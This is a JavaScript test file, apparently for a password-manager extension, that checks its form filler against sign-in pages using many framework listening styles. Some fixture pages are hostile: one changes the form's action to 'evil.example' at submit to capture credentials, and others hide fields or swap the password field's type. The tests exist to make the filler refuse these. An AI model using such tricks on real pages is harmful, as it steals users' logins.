// @ts-check
/**
 * What pages listen to. Each page here does what one way of making forms does about a field, and takes over what it heard
 * of, never what stands in the field; `extension/page/form.js` is run in it as it is, and the page says what it would send.
 */
import { strict as assert } from "node:assert";
import { createServer } from "node:http";
import { test } from "node:test";
import { form } from "../page-function.mjs";
import { withBrowser } from "./driver/index.mjs";
import { folder } from "./person.mjs";

const TWO = `<label>User name <input name="username" autocomplete="username"></label><label>Password <input name="password" type="password"></label>`;
const BUTTON = `<button>Sign in</button>`;
/** A page that keeps `state` of its own and sends that. @param {string} fields @param {string} script @param {string} [button] */
const page = (fields, script, button = BUTTON) => `<!doctype html><title>Sign in</title><form action="/login">${fields}${button}</form><script>
const form = document.querySelector("form"), button = form.querySelector("button"), [user, word] = form.querySelectorAll("input");
const state = {}; window.sent = null;
const take = (event) => { state[event.target.name] = event.target.value; };
const on = (types, listener) => { for (const type of types.split(" ")) form.addEventListener(type, listener, true); };
form.addEventListener("submit", (event) => { event.preventDefault(); window.sent = { ...state }; });
${script}</script>`;
/** A page that puts a new element in the place of the field that something happened to. */
const RENEW = `const renew = (old) => { const fresh = old.cloneNode(false); fresh.value = old.value; old.replaceWith(fresh); return fresh; };`;
/** A page whose script comes when the button was pressed once. */
const LATE = `<!doctype html><title>Sign in</title><script async src="/late.js"></script><form>${TWO}${BUTTON}</form><script>
window.sent = null; window.presses = 0;
document.querySelector("button").addEventListener("click", () => { presses += 1; fetch("/pressed"); });</script>`;
const LATE_SCRIPT = `document.querySelector("form").addEventListener("submit", (event) => { event.preventDefault(); window.sent = Object.fromEntries(new FormData(event.target)); });`;
/** A form inside of a component, whose submit event does not leave it. @param {string} script */
const inside = (script) => `<!doctype html><title>Sign in</title><main></main><script>window.sent = null;
const root = document.querySelector("main").attachShadow({ mode: "open" });
root.innerHTML = '<form>${TWO}${BUTTON}</form>'; const form = root.firstChild;
${script}</script>`;
/** Fields with their labels in them, and transparent as long as nobody is in them. @param {string} style that shows them again */
const faint = (style) => TWO.replaceAll("<label>", '<label class="field">') + `<style>.field { display: block; width: 400px; height: 40px; } .field input { opacity: 0; transition: opacity 0.1s; } ${style}</style>`;
const BOTH = { username: "sam", password: "Correct-1" };

/** @typedef {{html: string, outcome?: string, sent?: Record<string, string> | null, values?: Record<string, string>, left?: string[]}} Case */
/** @type {Record<string, Case>} */
const CASES = {
  // Refusals first: nothing is left in the page.
  "a value that is longer than the field takes": { html: page(TWO.replace('type="password"', 'type="password" maxlength="5"'), ""), outcome: "too-long", sent: null, left: ["", ""] },
  "a choice that a list does not have": { html: page(`<select name="company"><option>Fabrikam</select>${TWO}`, ""), values: { company: "Contoso", ...BOTH }, outcome: "no-option", sent: null, left: ["", ""] },
  "a choice that no radio button has": { html: page(`<label><input type="radio" name="company" value="f"> Fabrikam</label>${TWO}`, ""), values: { company: "Contoso", ...BOTH }, outcome: "no-option", sent: null },
  "a field that stays read-only": { html: page(TWO.replace('type="password"', 'type="password" readonly'), ""), outcome: "changed", sent: null, left: ["", ""] },
  "a page that never keeps the password": { html: page(TWO, `on("input", (event) => { take(event); if (event.target === word && word.value) requestAnimationFrame(() => { word.value = ""; }); });`), outcome: "not-kept", sent: null, left: ["", ""] },
  "a password field that becomes a text field": { html: page(TWO, `on("input", (event) => { if (event.target === user) return; requestAnimationFrame(() => { word.type = "text"; }); });`), outcome: "changed", sent: null, left: ["", ""] },
  "a page that goes to another address meanwhile": { html: page(TWO, `on("input", (event) => { if (event.target === word && word.value) requestAnimationFrame(() => history.pushState(null, "", "/elsewhere")); });`), outcome: "moved", sent: null, left: ["", ""] },
  "a form whose address changes in the last moment": { html: page(TWO, `form.addEventListener("submit", () => { form.action = "https://evil.example/"; });`), outcome: "cleared", left: ["", ""] },

  "fields that stay transparent": { html: page(faint(""), `on("input", take);`), outcome: "hidden", sent: null, left: ["", ""] },
  "a password that stays transparent": { html: page(faint(".field input:not([type=password]):focus { opacity: 1; }"), `on("input", take);`), outcome: "hidden", sent: null, left: ["", ""] },
  "a form that would write the password into the address": { html: `<!doctype html><title>Sign in</title><form>${TWO}${BUTTON}</form><script>window.sent = null;</script>`, outcome: "filled", sent: null },
  "a button that would do so, where the form itself runs a script": { html: `<!doctype html><title>Sign in</title><form action="javascript:void 0">${TWO}<button formaction="/login">Sign in</button></form><script>window.sent = null;</script>`, outcome: "filled", sent: null },
  "a form inside of a component that would write the password into the address": { html: inside(""), outcome: "filled", sent: null },
  "a form inside of a component whose address changes in the last moment": { html: inside(`form.method = "post"; form.addEventListener("submit", () => { form.action = "https://evil.example/"; });`), outcome: "cleared" },
  "a page that puts another kind of field in the place of the password": { html: page(TWO, `on("input", (event) => { if (event.target === user) { const fresh = word.cloneNode(false); fresh.type = "text"; word.replaceWith(fresh); } });`), outcome: "changed", sent: null, left: ["", ""] },
  "a page that gives up after it put a new field in the place of the user name": { html: page(TWO, `${RENEW} on("input", (event) => { if (event.target === user) renew(user); else word.type = "text"; });`), outcome: "changed", sent: null, left: ["", ""] },
  "a page that puts a new field in its place whenever one is touched": { html: page(TWO, `${RENEW} on("focus", (event) => renew(event.target).removeAttribute("value"));`), outcome: "not-kept", sent: null, left: ["", ""] },

  "input, as Vue, Svelte and Angular do": { html: page(TWO, `on("input", take);`) },
  "input, but not while text is composed": { html: page(TWO, `let composing = false; on("compositionstart", () => { composing = true; }); on("compositionend", () => { composing = false; }); on("input", (event) => { if (!composing && !event.isComposing) take(event); });`) },
  "change, as Knockout does, and Vue where it is lazy": { html: page(TWO, `on("change", take);`) },
  "blur, as Angular does where it updates late": { html: page(TWO, `on("blur", take);`) },
  "focusout, as Ember and jQuery do": { html: page(TWO, `form.addEventListener("focusout", take);`) },
  "keyup, as validators of jQuery's time do": { html: page(TWO, `on("keyup", (event) => { if (event.key === undefined) throw new Error("no key"); take(event); });`) },
  "a value tracker, as React has": { html: page(TWO, `const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
    for (const input of [user, word]) { let known = ""; Object.defineProperty(input, "value", { configurable: true, get() { return native.get.call(this); }, set(value) { known = String(value); native.set.call(this, value); } });
      form.addEventListener("input", (event) => { if (event.target !== input) return; const shown = native.get.call(input); if (shown !== known) { known = shown; state[input.name] = shown; } else native.set.call(input, state[input.name] ?? ""); }); }`) },
  "key presses that are counted": { html: page(TWO, `const pressed = new Set(); on("keypress", (event) => pressed.add(event.target)); on("input", (event) => { if (pressed.has(event.target)) take(event); });`) },
  "focus before anything else": { html: page(TWO, `const entered = new Set(); on("focus", (event) => entered.add(event.target)); on("input", (event) => { if (entered.has(event.target)) take(event); });`) },
  "fields that are read-only until they have the focus": { html: page(TWO.replaceAll("<input", "<input readonly"), `on("focus", (event) => { event.target.readOnly = false; }); on("input", take);`) },
  "fields that are read-only until they are pressed": { html: page(TWO.replaceAll("<input", "<input readonly"), `on("pointerdown", (event) => { event.target.readOnly = false; }); on("input", take);`) },
  "a form below the fold of what scrolls within the page": { html: page(TWO, `on("input", take);`).replace("<form", `<div style="height:200px;overflow:auto"><p style="height:3000px"></p><form`) },
  "fields that are transparent until somebody is in them, with their labels in them": { html: page(faint(".field input:focus, .field input.kept { opacity: 1; }"), `on("input", (event) => { take(event); event.target.classList.toggle("kept", event.target.value !== ""); });`) },
  "a script that comes after the button was pressed": { html: LATE },
  "new fields in the place of those that were written, as frameworks put there whose keys change": { html: page(TWO, `${RENEW} on("input", (event) => { take(event); renew(event.target); });`) },
  "a new field in the place of the one that gets the focus first": { html: page(TWO, `${RENEW} let is = false; on("focus", (event) => { if (!is) { is = true; renew(event.target); } }); on("input", take);`) },
  "a list and radio buttons": {
    html: page(`<select name="domain"><option value="1">Fabrikam<option value="2">Contoso</select><label><input type="radio" name="company" value="a"> North</label><label><input type="radio" name="company" value="b"> South</label>${TWO}`, `on("input", take);`),
    values: { domain: "Contoso", company: "South", ...BOTH }, sent: { domain: "2", company: "b", ...BOTH },
  },
  "a button that is enabled late": { html: page(TWO, `button.disabled = true; on("input", (event) => { take(event); setTimeout(() => { button.disabled = !(state.username && state.password); }, 200); });`) },
  "a form without a button": { html: page(TWO, `on("input", take);`, "") },
  "fields without a form, and Enter": { html: page(TWO, `on("input", take); on("keydown", (event) => { if (event.key === "Enter") window.sent = { ...state }; });`, "").replaceAll(/<(\/?)form/g, "<$1section") .replace('querySelector("form")', 'querySelector("section")') },
  "a page that paints its fields empty once": { html: page(TWO, `let painted = false; on("input", (event) => { take(event); if (event.target === word && !painted) { painted = true; requestAnimationFrame(() => { user.value = word.value = ""; state.username = state.password = ""; }); } });`) },
  "a page that puts new fields in the place of the old ones": { html: page(TWO, `let painted = false; on("input", (event) => { take(event); if (event.target.name === "password" && !painted) { painted = true; setTimeout(() => { for (const old of [user, word]) old.replaceWith(old.cloneNode(false)); }); } });`) },
};

for (const browser of /** @type {("chromium" | "firefox")[]} */ ((process.env.MY_APPS_BROWSERS ?? "chromium firefox").split(" "))) {
  test(`${browser}: pages hear of what is written, whatever they listen to`, { timeout: 120_000 }, async () => {
    const names = Object.keys(CASES);
    /** @type {import("node:http").ServerResponse | undefined} */ let late;
    const server = createServer((question, answer) => {
      const { pathname } = new URL(question.url ?? "/", "http://x");
      if (pathname === "/late.js") return void (late = answer);
      if (pathname === "/pressed" && !late?.writableEnded) late?.writeHead(200, { "content-type": "text/javascript" }).end(LATE_SCRIPT);
      const shown = CASES[names[Number(pathname.slice(1))] ?? ""];
      answer.writeHead(shown ? 200 : 404, { "content-type": "text/html" }).end(shown?.html ?? "");
    });
    await new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined)));
    const origin = `http://localhost:${/** @type {import("node:net").AddressInfo} */ (server.address()).port}`;
    try {
      await withBrowser({ browser, extension: folder(browser), name: "listeners" }, async (running) => {
        const tab = await running.openTab("about:blank");
        for (const [number, name] of names.entries()) {
          const { html, outcome = "submitted", values = BOTH, sent = values, left } = /** @type {Case} */ (CASES[name]);
          if (html === LATE) {
            await tab.evaluate((address) => void location.assign(address), `${origin}/${number}`);
            await tab.waitFor((path) => location.pathname === path && document.querySelector("button"), "the form, before the page is complete", `/${number}`);
          } else await tab.goto(`${origin}/${number}`);
          const seen = /** @type {any} */ (await tab.evaluate(form, { probe: {} }));
          const at = (/** @type {(control: any) => boolean} */ fits) => {
            const control = seen.controls.find(fits);
            return control && { index: control.index, fingerprint: control.fingerprint };
          };
          const button = at((control) => control.tag === "button");
          const place = /** @type {any} */ ({ origin: seen.origin, href: seen.href, origins: [seen.origin], submit: button ? { button } : seen.forms.length ? "request" : "enter" });
          const fields = Object.entries(values).map(([field, value]) => ({ ...at((control) => control.name === field), value, secret: field === "password" }));
          let result = /** @type {any} */ (await tab.evaluate(form, { fill: { ...place, fields } }));
          for (let tries = 0; tries < 20 && result.outcome === "waiting"; tries += 1) {
            await new Promise((resolve) => setTimeout(resolve, 60));
            const targets = fields.map(({ index, fingerprint }) => ({ index, fingerprint }));
            result = await tab.evaluate(form, { submit: { ...place, fields: targets } });
          }
          assert.equal(result.outcome, outcome, name);
          if (outcome !== "cleared") assert.deepEqual(await tab.evaluate(() => /** @type {any} */ (window).sent), sent, name);
          const kept = await tab.evaluate(() => [...document.querySelectorAll("input")].filter((input) => input.type !== "radio").map((input) => input.value));
          assert.ok(!(await tab.url()).includes(BOTH.password), `${name}: the password in an address`);
          if (html === LATE) assert.equal(await tab.evaluate(() => /** @type {any} */ (window).presses), 2, `${name}: presses`);
          if (left) assert.deepEqual(kept, left, `${name}: what is left`);
        }
      });
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });
}
